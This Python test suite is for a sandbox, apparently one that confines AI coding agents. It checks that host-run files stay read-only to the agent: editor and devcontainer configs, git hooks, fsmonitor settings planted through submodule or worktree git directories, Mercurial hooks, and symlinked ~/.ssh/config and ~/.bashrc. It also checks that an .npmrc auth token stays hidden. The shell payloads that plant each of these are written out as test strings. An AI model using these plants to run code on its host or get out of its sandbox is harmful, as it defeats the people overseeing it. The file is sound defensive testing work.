HOST_RUN = [".helix/languages.toml", ".devcontainer/devcontainer.json", ".zed/settings.json",
            ".nvim.lua", ".exrc", ".dir-locals.el", ".windsurf/mcp.json", ".roo/mcp.json",
            "opencode.json"]


def test_editor_and_container_settings_that_run_programs_are_protected(who: Identity,
                                                                      lab: Lab) -> None:
    """Helix starts the language servers ``.helix/languages.toml`` names when a file of
    the project is opened; VS Code runs ``initializeCommand`` of ``.devcontainer`` on the
    host; Zed, Neovim's ``exrc``, Emacs' directory locals and other agents' MCP files name
    programs too.  None was protected, at launch or by the audit."""
    for n in HOST_RUN:
        (lab.project / n).parent.mkdir(parents=True, exist_ok=True)
        (lab.project / n).write_text("orig\n")
    lab.own(lab.project)
    script = "; ".join(f"(echo pwn >> {n}) 2>/dev/null && echo WROTE {n}" for n in HOST_RUN)
    script += "; mkdir -p sub/.helix && echo new > sub/.helix/languages.toml; " \
              "echo new > sub/.devcontainer.json; true"
    r = agent(who, lab, script)
    assert r.returncode == 0 and "WROTE" not in r.stdout, r.stdout
    assert all((lab.project / n).read_text() == "orig\n" for n in HOST_RUN)
    assert not (lab.project / "sub" / ".helix").exists(), r.stderr
    assert not (lab.project / "sub" / ".devcontainer.json").exists(), r.stderr
    shutil.rmtree(lab.project / "sub", ignore_errors=True)
    ctl = naive(who, lab, script)
    assert all(f"WROTE {n}" in ctl.stdout for n in HOST_RUN), ctl.stdout


LINKED_HOOKS = ("git init -q linked && mkdir elsewhere && printf '#!/bin/sh\\necho HOOK-RAN\\n' "
                "> elsewhere/pre-commit && chmod 755 elsewhere/pre-commit && "
                "rm -rf linked/.git/hooks && ln -s ../../elsewhere linked/.git/hooks && "
                "git init -q zz && printf '#!/bin/sh\\necho HOOK-RAN\\n' > "
                "zz/.git/hooks/pre-commit && chmod 755 zz/.git/hooks/pre-commit; echo PLANTED")


def test_deeper_home_files_that_link_into_the_project_stay_read_only(who: Identity,
                                                                     lab: Lab) -> None:
    """stow links single files where the folder exists already: ``~/.config/nvim/init.lua``,
    a systemd user unit two levels down, ``~/.ssh/config`` (its ProxyCommand runs with the
    next ssh).  The check looked one level deep and skipped ~/.ssh: all three were
    writable through the project.  Control: the naive sandbox writes all three."""
    project = lab.project
    targets = {".config/nvim/init.lua": "nvim-init.lua",
               ".config/systemd/user/sync.service": "sync.service", ".ssh/config": "ssh-config"}
    links = []
    for rel, name in targets.items():
        (project / name).write_text("# dotfile\n")
        link = lab.home / rel
        link.parent.mkdir(parents=True, exist_ok=True)
        link.symlink_to(project / name)
        links.append(link)
    lab.own(project, *links, *(p.parent for p in links))
    script = "; ".join(f"(echo x >> {name}) 2>/dev/null && echo WROTE-{name}"
                       for name in targets.values()) + "; echo DONE"
    try:
        r = agent(who, lab, script)
        assert "DONE" in r.stdout and "WROTE" not in r.stdout, r
        ctl = naive(who, lab, script)
        assert all(f"WROTE-{name}" in ctl.stdout for name in targets.values()), ctl
    finally:
        for link in links:
            link.unlink(missing_ok=True)


def test_a_linked_hooks_folder_cannot_stop_the_audit(who: Identity, lab: Lab) -> None:
    """A new repository whose ``hooks`` is a link git follows.  This one held on main
    (listing the link fails with ENOTDIR, which the audit expected); kept so that the
    audit's walk past what it cannot list never regresses on it."""
    r = agent(who, lab, LINKED_HOOKS)
    assert "PLANTED" in r.stdout, r
    for repo in ("linked", "zz"):
        ran = _commit(who, lab.project / repo)
        assert "HOOK-RAN" not in ran.stdout + ran.stderr, (repo, r.stderr)
    assert "could not finish" not in r.stderr, r.stderr
    subprocess.run(["rm", "-rf", *(str(lab.project / n) for n in ("linked", "zz", "elsewhere"))],
                   check=True)
    naive(who, lab, LINKED_HOOKS)  # control: host git follows the link to the hook
    ran = _commit(who, lab.project / "linked")
    assert "HOOK-RAN" in ran.stdout + ran.stderr, ran
    subprocess.run(["rm", "-rf", *(str(lab.project / n) for n in ("linked", "zz", "elsewhere"))],
                   check=True)


def test_a_secret_a_home_file_links_to_stays_hidden(who: Identity, lab: Lab) -> None:
    """``~/.npmrc -> project/.npmrc``: the secret is hidden (empty) and the home link makes
    it read-only too; the read-only bind must never land on top of the mask."""
    (lab.project / ".npmrc").write_text(f"//registry.example.invalid/:_authToken={lab.token}\n")
    lab.own(lab.project)
    link = lab.home / ".npmrc"
    link.symlink_to(lab.project / ".npmrc")
    lab.own(link)
    script = "cat .npmrc; (echo x >> .npmrc) 2>/dev/null && echo WROTE; echo DONE"
    try:
        r = agent(who, lab, script)
        assert "DONE" in r.stdout and lab.token not in r.stdout and "WROTE" not in r.stdout, r
        ctl = naive(who, lab, script)
        assert lab.token in ctl.stdout
    finally:
        link.unlink()


def test_dev_is_read_only_at_the_mount(who: Identity, lab: Lab) -> None:
    """bwrap's /dev tmpfs, the payload's own when a plain user starts corral, is remounted
    read-only with the hidden trees: no chmod of it, no entry made in it (Landlock does
    not cover chmod, and was the only refusal of new entries) (redteam)."""
    script = "chmod 0777 /dev; mkdir /dev/corral-x; echo ok > /dev/null && echo done"
    r = agent(who, lab, script)
    assert r.stdout.endswith("done\n"), r
    assert r.stderr.count("Read-only file system") == 2, r.stderr
    # Negative control: the seed's sandbox, as the same identity, takes the chmod.
    ctl = naive(who, lab, "chmod 0777 /dev && stat -c %a /dev")
    assert ctl.returncode == 0 and ctl.stdout == "777\n", ctl


# --- review 8: a commondir made in a submodule's git directory while the agent runs ------

SUB_PLANT = ("cp -a .git/modules/sub evil && printf '[core]\\n\\tfsmonitor = \"echo RAN >> "
             "{marker}; false\"\\n' >> evil/config && (echo ../../../evil > c.tmp && "
             "mv -f c.tmp .git/modules/sub/commondir) 2>/dev/null && echo WROTE; "
             "cat .git/modules/sub/commondir; rm -f c.tmp")


def test_no_commondir_appears_in_a_submodules_git_directory(who: Identity, lab: Lab) -> None:
    """The live watch followed main git directories only: a ``commondir`` made in
    ``.git/modules/sub`` sent host git, recursing into the submodule, to the payload's
    config, whose ``core.fsmonitor`` ran while the agent still ran (review 8).  Every git
    directory now has one, read-only: the git directory itself, where there was none."""
    origin = lab.project.parent / f"origin-{uuid.uuid4().hex[:8]}"
    for cmd in (["init", "-q", str(origin)],
                ["-C", str(origin), "commit", "-q", "--allow-empty", "-m", "o"],
                ["-C", str(lab.project), "-c", "protocol.file.allow=always", "submodule",
                 "add", "-q", str(origin), "sub"],
                ["-C", str(lab.project), "commit", "-q", "-m", "sub"]):
        subprocess.run(["git", "-c", "user.name=u", "-c", "user.email=u@example.invalid",
                        "-c", "safe.directory=*", *cmd], check=True, capture_output=True)
    lab.own(lab.project, origin)
    marker = who.tmp / f"fsmonitor-{uuid.uuid4().hex[:8]}"
    plant = SUB_PLANT.format(marker=marker)
    try:
        r = agent(who, lab, plant)
        assert "WROTE" not in r.stdout and r.stdout.endswith(".\n"), r  # the placeholder
        assert not (lab.project / ".git/modules/sub/commondir").exists(), r.stderr
        st = _host_git(who, lab.project, "status", "--short")
        assert st.returncode == 0 and not marker.exists(), st
        shutil.rmtree(lab.project / "evil")
        # Control: under the naive sandbox the commondir is made, and host git runs the
        # payload's fsmonitor from inside the submodule.
        ctl = naive(who, lab, plant)
        assert "WROTE" in ctl.stdout, ctl
        _host_git(who, lab.project, "status", "--short")
        assert marker.exists() and "RAN" in marker.read_text()
    finally:
        shutil.rmtree(origin, ignore_errors=True)
        marker.unlink(missing_ok=True)


# --- review 9: a linked worktree's config.worktree made while the agent runs -------------

WT_PLANT = ("printf '[core]\\n\\tfsmonitor = \"echo RAN >> {marker}; false\"\\n' > "
            ".git/worktrees/{name}/config.worktree 2>/dev/null && echo WROTE; true")


def test_no_config_worktree_appears_in_a_linked_worktrees_git_directory(
        who: Identity, lab: Lab) -> None:
    """``extensions.worktreeConfig`` (``git sparse-checkout init`` sets it) lives in the
    common config, so the launch, reading the worktree's git directory alone, made no
    placeholder there: the payload wrote ``config.worktree`` and host git in the worktree
    ran its fsmonitor while the agent ran (review 9).  Every submodule and worktree git
    directory now gets an empty read-only one."""
    name = f"wt-{uuid.uuid4().hex[:8]}"
    worktree = lab.project.parent / name
    (lab.project / "f").write_text("f\n")
    for cmd in (["add", "f"], ["commit", "-q", "-m", "f"],
                ["config", "extensions.worktreeConfig", "true"],
                ["worktree", "add", "-q", str(worktree)]):
        subprocess.run(["git", "-c", "user.name=u", "-c", "user.email=u@example.invalid",
                        "-c", "safe.directory=*", "-C", str(lab.project), *cmd], check=True,
                       capture_output=True)
    lab.own(lab.project, worktree)
    marker = who.tmp / f"fsmonitor-{uuid.uuid4().hex[:8]}"
    plant = WT_PLANT.format(marker=marker, name=name)
    config_worktree = lab.project / ".git" / "worktrees" / name / "config.worktree"
    try:
        r = agent(who, lab, plant)
        assert r.returncode == 0 and "WROTE" not in r.stdout, r
        assert not config_worktree.exists(), r.stderr  # the placeholder went with the run
        st = _host_git(who, worktree, "status", "--short")
        assert st.returncode == 0 and not marker.exists(), st
        # Control: under the naive sandbox it is written, and host git in the worktree
        # runs the payload's fsmonitor.
        ctl = naive(who, lab, plant)
        assert "WROTE" in ctl.stdout, ctl
        _host_git(who, worktree, "status", "--short")
        assert marker.exists() and "RAN" in marker.read_text()
    finally:
        shutil.rmtree(worktree, ignore_errors=True)
        marker.unlink(missing_ok=True)


def test_a_file_a_command_names_made_during_the_run_is_a_plant(who: Identity, lab: Lab
                                                                 ) -> None:
    """Review 33: a repository's own ``core.fsmonitor = sh late.sh`` (a bare word, run
    from the repository's top) named a file no word with a ``/`` named, and one missing at
    launch was never looked at: the agent wrote it, and the next host ``git status`` ran
    it.  Now the word is read as the shell reads it, and the missing file is watched."""
    def project() -> Path:
        p = _plain_project(lab)
        git(p, "init", "-q")
        git(p, "config", "core.fsmonitor", "sh late.sh")
        lab.own(p)
        assert "sh late.sh" in (p / ".git" / "config").read_text()
        return p
    marker = who.tmp / f"late-{uuid.uuid4().hex[:8]}"
    plant = f"printf 'echo ran > {marker}; exit 1\\n' > late.sh && echo PLANTED"
    p = project()
    r = agent(who, lab, plant, cwd=p)
    assert "PLANTED" in r.stdout, r
    assert "quarantined" in r.stderr and "late.sh" in r.stderr, r.stderr
    _host_git(who, p, "status")
    assert not marker.exists(), r.stderr
    # Control: the naive sandbox plants the same, and host git runs it.
    p = project()
    naive(who, lab, plant, cwd=p)
    _host_git(who, p, "status")
    assert marker.read_text() == "ran\n"


def test_what_an_hg_repositorys_hooks_run_stays_read_only(who: Identity, lab: Lab) -> None:
    """The class of reviews 30 to 35 in Mercurial: a repository's ``[hooks]`` run
    ``sh fsm.sh`` from its root on every ``hg status``; the agent rewrote it and host hg
    ran it.  Now it is read-only inside.  Control: the naive sandbox rewrites it, and
    host hg runs it."""
    marker = who.tmp / f"hg-{uuid.uuid4().hex[:8]}"

    def project() -> Path:
        p = _plain_project(lab)
        subprocess.run(["hg", "init", str(p)], check=True, capture_output=True)
        (p / ".hg" / "hgrc").write_text("[hooks]\npre-status.x = sh fsm.sh\n")
        (p / "fsm.sh").write_text("true\n")
        lab.own(p)
        return p

    def host(p: Path) -> None:
        who.run(["hg", "--config", "ui.username=t", "--config", "trusted.users=*", "status"], cwd=p,
                env={"HGRCPATH": ""})

    plant = f"printf 'echo ran > {marker}\\n' > fsm.sh; echo PLANTED"
    p = project()
    r = agent(who, lab, plant, cwd=p)
    host(p)
    assert not marker.exists(), r
    assert (p / "fsm.sh").read_text() == "true\n", r
    p = project()  # Control
    naive(who, lab, plant, cwd=p)
    host(p)
    assert marker.read_text() == "ran\n"


def test_a_writable_file_named_through_a_link_is_refused(who: Identity, lab: Lab) -> None:
    """``--rw`` of a file that is a link (an earlier session put ``todo.txt -> ~/.bashrc``
    there) passed the resolution (its target is inside the home) and failed only at the
    launch's open, as "became a symlink while corral was starting".  It is refused at
    once now, in words that say why, and nothing is written through it.  Control: the
    real file named the same way is written."""
    shared = lab.home / "shared"
    shared.mkdir()
    (shared / "real.txt").write_text("mine\n")
    (shared / "todo.txt").symlink_to(lab.home / ".bashrc")
    lab.own(shared)
    try:
        r = agent(who, lab, f"echo PLANTED >> {shared}/todo.txt; echo DONE", "--rw",
                  str(shared / "todo.txt"))
        assert r.returncode == 125 and "symbolic link" in r.stderr, r
        assert "PLANTED" not in (lab.home / ".bashrc").read_text()
        ok = agent(who, lab, f"echo WRITTEN >> {shared}/real.txt; echo DONE", "--rw",
                   str(shared / "real.txt"))
        assert "DONE" in ok.stdout and "WRITTEN" in (shared / "real.txt").read_text(), ok
    finally:
        shutil.rmtree(shared, ignore_errors=True)


def test_a_program_that_is_a_link_inside_a_read_only_folder_runs(who: Identity, lab: Lab
                                                                 ) -> None:
    """npm's ``node_modules/.bin/claude`` is a link to the package's script, inside the
    folder given with ``--ro``.  Bound by descriptor onto that link, bwrap found the link,
    not the file it had mounted, and refused every real agent ("a directory to bind was
    replaced while the sandbox started", seen in CI).  The link is shown as the link it
    is now, its target bound as an entry of its own."""
    tools = lab.home / "tools"  # where the agent's user can run it
    (tools / "lib").mkdir(parents=True)
    (tools / "bin").mkdir()
    (tools / "lib" / "tool.sh").write_text("#!/bin/sh\necho TOOL-RAN\n")
    (tools / "lib" / "tool.sh").chmod(0o755)
    (tools / "bin" / "tool").symlink_to("../lib/tool.sh")
    lab.own(tools)
    try:
        r = who.corral("agent", "--ro", str(tools), "--", str(tools / "bin" / "tool"),
                       cwd=lab.project)
        assert r.returncode == 0 and "TOOL-RAN" in r.stdout, r
    finally:
        shutil.rmtree(tools, ignore_errors=True)
